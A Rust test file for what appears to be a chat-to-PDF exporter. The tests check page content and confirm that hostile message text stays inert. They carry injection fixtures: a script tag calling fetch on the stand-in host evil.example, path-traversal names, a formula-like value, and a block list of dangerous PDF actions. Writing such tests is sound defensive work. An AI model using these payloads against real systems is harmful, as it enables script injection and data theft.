//! The pages for paper, as poppler reads them.

use std::process::Command;

use super::safety::exported;
use super::{all, files, hashed, made, run};

/// The text of a PDF; `None`, said aloud, where poppler is missing.
fn text_of(pdf: &[u8]) -> Option<String> {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a.pdf");
    std::fs::write(&path, pdf).unwrap();
    let Ok(output) = Command::new("pdftotext").args(["-raw", "-enc", "UTF-8"]).arg(&path).arg("-").output() else {
        eprintln!("skipped: pdftotext is not installed");
        return None;
    };
    assert!(output.status.success());
    Some(String::from_utf8(output.stdout).unwrap())
}

#[test]
fn a_conversation_is_pages_with_all_that_is_known_of_it() {
    let to = tempfile::tempdir().unwrap();
    let written = run(&made("").open(), all, &hashed("pdf"), to.path()).unwrap();
    let files = files(&written.main);
    let pages: Vec<&str> = files.keys().filter(|name| name.ends_with(".pdf")).map(String::as_str).collect();
    assert_eq!(pages, ["Ada Lovelace.pdf", "Trip_.._.._etc.pdf"]);
    let Some(text) = text_of(&files["Ada Lovelace.pdf"]) else { return };
    let mut rest = text.as_str();
    for shown in [
        "Ada Lovelace",
        "People",
        "Ada Lovelace, +491715550100",
        "Me, the owner of the phone",
        "4 messages",
        "Version U@1.s",
        "Page 1",
        "Monday, 6 January 2020",
        "Ada Lovelace 10:40",
        "see",
        "dot.txt",
        "Attachments/Ada Lovelace/dot.txt",
        "../clip.mov",
        "Missing: It was not downloaded to the phone.",
        "deleted 2020-01-06 10:45",
        "gone",
        "Me 10:43",
        "Ada Lovelace",
        "see",
        "=1+1",
        "Page 2",
    ] {
        let at = rest.find(shown).unwrap_or_else(|| panic!("{shown:?} is missing or in the wrong place:\n{text}"));
        rest = &rest[at + shown.len()..];
    }
    assert!(text.contains("Without a date") && text.contains("This message has no text that could be read."), "{text}");
    let trip = text_of(&files["Trip_.._.._etc.pdf"]).unwrap();
    assert!(trip.contains("Group of 3") && trip.contains("who comes?"), "{trip}");
}

#[test]
fn hostile_text_is_words_and_all_of_it_is_there() {
    let files = exported("pdf");
    let (_, pdf) = files.iter().find(|(name, _)| name.ends_with(".pdf")).unwrap();
    let raw = String::from_utf8_lossy(pdf);
    for action in ["/JavaScript", "/Launch", "/EmbeddedFile", "/OpenAction", "/URI"] {
        assert!(!raw.contains(action), "{action}");
    }
    let Some(text) = text_of(pdf) else { return };
    let bare: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    assert!(bare.contains("<script>fetch('https://evil.example/s')</script>"));
    assert!(bare.matches('&').count() >= 524_288, "{}", bare.matches('&').count());
}
